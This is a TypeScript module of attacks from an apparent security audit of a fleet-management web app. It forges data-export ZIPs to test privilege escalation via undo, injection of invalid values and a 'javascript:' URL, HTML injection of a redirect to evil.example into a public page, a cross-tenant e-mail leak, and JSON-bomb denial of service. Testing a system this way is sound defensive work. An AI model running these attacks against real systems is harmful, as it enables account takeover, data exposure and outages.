import { setTimeout as delay } from 'node:timers/promises';
import type { ActivityEntry } from '@baqueano/domain/activity/activity';
import type { Session } from '@baqueano/domain/people/session';
import type { RecordFile } from '@baqueano/domain/records/file';
import type { Takeout } from '@baqueano/domain/takeout';
import type { Vehicle } from '@baqueano/domain/vehicles/vehicle';
import { chainOf } from '../../../server/src/papers/sale-packs/chain.ts';
import { aRecordOfEach, someReferences } from '../../../server/src/testing/kinds.ts';
import { repack, type Unpacked, unpack, withRows } from '../../../server/src/testing/samples/repack.ts';
import { type Attack, newEmail, password, type Target } from '../target.ts';

/** Attacks by a forged ZIP of 'Llevate tus datos', and by undoing. */

const patience = 60_000;

function callerOf(target: Target, { token }: Session) {
  async function call<T>(method: string, path: string, body?: unknown): Promise<{ status: number; body: T }> {
    const { status, text } = await target.ask(method, path, { body, token });
    return { status, body: text === '' ? null : JSON.parse(text) };
  }

  async function must<T>(method: string, path: string, body?: unknown): Promise<T> {
    const answer = await call<T>(method, path, body);
    if (answer.status < 300) return answer.body;
    throw new Error(`${method} ${path} answered ${answer.status}: ${JSON.stringify(answer.body)}`);
  }

  async function ended(id: string): Promise<Takeout> {
    for (const end = Date.now() + patience; Date.now() < end; await delay(100)) {
      const found = await must<Takeout>('GET', `/api/takeouts/${id}`);
      if (found.finishedAt) return found;
    }
    throw new Error('The takeout has not ended');
  }

  return {
    call,
    must,
    add: (path: string, body: object) => must<{ id: string }>('POST', path, body),

    async takeoutZip(): Promise<Unpacked> {
      const { id } = await ended((await must<Takeout>('POST', '/api/takeouts', {})).id);
      const { link } = await must<{ link: string }>('GET', `/api/takeouts/${id}/link`);
      return unpack(Buffer.from(await (await fetch(target.url + link)).arrayBuffer()));
    },

    /** Null when it was accepted, else the reason of the refusal. */
    async bring(entries: Unpacked, change?: Parameters<typeof repack>[1]): Promise<string | null> {
      const zip = repack(entries, change);
      const { id } = await must<Takeout>('POST', '/api/takeouts/arrivals', { size: zip.length });
      await must('PUT', `/api/takeouts/${id}/pieces/0`, zip);
      await must('POST', `/api/takeouts/${id}/arrived`);
      return (await ended(id)).problem;
    },
  };
}
type Caller = ReturnType<typeof callerOf>;

async function aTakeout(target: Target) {
  const caller = callerOf(target, await target.register());
  const to = await someReferences(caller.add);
  const ids = await aRecordOfEach(caller.add, to, 'Algo');
  return { caller, ids, vehicle: to.vehicle, entries: await caller.takeoutZip() };
}

async function aMember(target: Target, owner: Caller, role: string): Promise<Session> {
  const { path } = await owner.must<{ path: string }>('POST', '/api/invitations', { role });
  const token = path.split('token=')[1];
  const body = { token, email: newEmail(), password, firstName: 'Ana' };
  const { status, text } = await target.ask('POST', '/api/invitations/register', { body });
  if (status !== 201) throw new Error(`Joining answered ${status}: ${text}`);
  return JSON.parse(text);
}

/** The activity's rows, with one of them forged. */
function withLine(entries: Unpacked, line: object): Unpacked {
  let first = true;
  return withRows(entries, 'activity', (row) => {
    const more = first ? [{ ...row, id: crypto.randomUUID(), at: new Date().toISOString(), ...line }] : [];
    first = false;
    return [row, ...more];
  });
}

async function undoneLine(owner: Caller, kind: string): Promise<number | null> {
  const lines = await owner.must<ActivityEntry[]>('GET', `/api/activity?kind=${kind}&limit=200`);
  const forged = lines.find(({ action, actor }) => action === 'changed' && actor?.name === 'Nadie');
  return forged ? (await owner.call('POST', `/api/activity/${forged.id}/undo`)).status : null;
}

const forger = '019a0000-0000-7000-8000-00000000f0e9';
const forgery = { action: 'changed', actor: forger, undoes: null, undone_by: null, request_id: null };
const named = (entries: Unpacked): Unpacked =>
  new Map([
    ...entries,
    ['datos/former_people.ndjson', Buffer.from(`${JSON.stringify({ id: forger, name: 'Nadie' })}\n`)],
  ]);

/** Administración brings a line that claims to be Dueño's; the owner undoes it. */
async function ownerByUndo(target: Target) {
  const owner = callerOf(target, await target.register());
  const session = await aMember(target, owner, 'administration');
  const member = callerOf(target, session);
  const { entries } = await aTakeout(target);
  const line = {
    ...forgery,
    ...{ kind: 'member', record_id: session.user.id, vehicle_id: null, driver_id: null, label: 'Ana' },
    ...{ before: { role: 'owner' }, after: { role: 'administration' } },
  };
  const problem = await member.bring(named(withLine(entries, line)));
  const undone = await undoneLine(owner, 'member');
  const members = await owner.must<{ id: string; role: string }[]>('GET', '/api/members');
  const role = members.find(({ id }) => id === session.user.id)?.role;
  return { answer: `${problem ?? 'brought'}; undo ${undone}; ${role}`, works: role === 'owner' };
}

/** A line claims former values of a vehicle that no form accepts; undoing writes them. */
async function valuesByUndo(target: Target) {
  const { entries, vehicle } = await aTakeout(target);
  const owner = callerOf(target, await target.register());
  const values = { brand: 'x'.repeat(20_000), imageUrl: 'javascript:alert(1)', year: -5, status: 'loquesea' };
  const row = JSON.parse(String(entries.get('datos/vehicles.ndjson')).split('\n')[0] ?? '');
  const after = { brand: row.brand, imageUrl: row.image_url, year: row.year, status: row.status };
  const line = { ...forgery, kind: 'vehicle', record_id: vehicle, vehicle_id: vehicle, driver_id: null, label: 'X' };
  const problem = await owner.bring(named(withLine(entries, { ...line, before: values, after })));
  const undone = await undoneLine(owner, 'vehicle');
  const { body } = await owner.call<Vehicle>('GET', `/api/vehicles/${vehicle}`);
  return { answer: `${problem ?? 'brought'}; undo ${undone}; year ${body.year}`, works: body.year === -5 };
}

/** HTML in the entries of a history for a buyer, with hashes that fit. */
async function htmlInHistory(target: Target) {
  const { entries, ids } = await aTakeout(target);
  const owner = callerOf(target, await target.register());
  const evil = '<meta http-equiv="refresh" content="5;url=https://evil.example/">';
  const forged = withRows(entries, 'sale_packs', (row) => {
    const parsed = (row.entries as string[]).map((text) => JSON.parse(text));
    const texts = parsed.map((entry) =>
      JSON.stringify({ ...entry, ...(entry.is === 'made' && { at: `2026-11-25T${evil}` }) }),
    );
    const hashes = chainOf(texts);
    return { ...row, entries: texts, hashes, hash: hashes.at(-1) };
  });
  const problem = await owner.bring(forged);
  const { status, body } = await owner.call<{ path: string }>('POST', `/api/sale-packs/${ids['sale-packs']}/link`);
  const page = status < 300 ? (await target.ask('GET', body.path)).text : '';
  const isThere = page.includes(evil);
  return {
    answer: `${problem ?? 'brought'}; link ${status}; the page ${isThere ? 'holds' : 'does not hold'} the tag`,
    works: isThere,
  };
}

/** Taller brings back a file of a document, which it may not add. */
async function fileByUndo(target: Target) {
  const owner = callerOf(target, await target.register());
  const to = await someReferences(owner.add);
  const { documents: recordId = '' } = await aRecordOfEach(owner.add, to, 'Algo');
  const body = { kind: 'document', recordId, name: 'poliza.png', contentId: to.content };
  const file = await owner.add('/api/files', body);
  await owner.must('DELETE', `/api/files/${file.id}`);
  const workshop = callerOf(target, await aMember(target, owner, 'workshop'));
  const adding = (await workshop.call('POST', '/api/files', body)).status;
  const [line] = await owner.must<ActivityEntry[]>('GET', '/api/activity?kind=file&limit=1');
  const undone = (await workshop.call('POST', `/api/activity/${line?.id}/undo`)).status;
  const files = await owner.must<RecordFile[]>('GET', `/api/files?kind=document&record=${recordId}`);
  return { answer: `adding ${adding}, undo ${undone}`, works: files.some(({ id }) => id === file.id) };
}

/** Lines and files of a ZIP name a person of another organization by their id. */
async function namesById(target: Target) {
  const victim = await target.register();
  const { entries } = await aTakeout(target);
  const owner = callerOf(target, await target.register());
  const lines = withRows(entries, 'activity', (row) => ({ ...row, actor: victim.user.id }));
  const problem = await owner.bring(withRows(lines, 'files', (row) => ({ ...row, created_by: victim.user.id })));
  const lists = await Promise.all(['activity', 'files'].map((list) => owner.call('GET', `/api/${list}`)));
  const isShown = JSON.stringify(lists).includes(victim.user.email);
  return { answer: `${problem ?? 'brought'}; the e-mail ${isShown ? 'is' : 'is not'} told`, works: isShown };
}

/** A small ZIP that costs much; without a refusal in words, a part of the server has failed. */
function heavyZip(row: string | null, change?: Parameters<typeof repack>[1]): Attack['run'] {
  return async (target) => {
    const { entries } = await aTakeout(target);
    if (row !== null) entries.set('datos/vehicles.ndjson', Buffer.from(`${row}\n`));
    const problem = await callerOf(target, await target.register()).bring(entries, change);
    return { answer: problem ?? 'brought', works: !problem?.startsWith('El ') };
  };
}

const wide = () => `{"custom":[${Array(1_300_000).fill('[]').join(',')}]}`;
const deep = `{"custom":${'['.repeat(20_000)}${']'.repeat(20_000)}}`;
const wideManifest = (manifest: object) => ({ ...manifest, entries: Array(1_000_000).fill({}) });

export const zipAttacks: Attack[] = [
  { finding: '3.2', what: 'a row of 4 MB of lists holds the event loop', run: (target) => heavyZip(wide())(target) },
  { finding: '3.2', what: 'a manifest of a million entries holds the event loop', run: heavyZip(null, wideManifest) },
  { finding: '3.4', what: 'a row nested 20,000 deep makes the job of all takeouts fail', run: heavyZip(deep) },
  { finding: '2.3', what: 'Administración becomes Dueño by a forged line that the owner undoes', run: ownerByUndo },
  { finding: '2.3', what: 'a forged line, undone, writes values that no form takes', run: valuesByUndo },
  { finding: '2.10', what: 'a forged ZIP puts HTML into the public page of a history', run: htmlInHistory },
  { finding: '2.12', what: 'Taller brings back a file of a document by undoing', run: fileByUndo },
  { finding: '2.13', what: 'a forged ZIP shows the e-mail of a person of another organization', run: namesById },
];
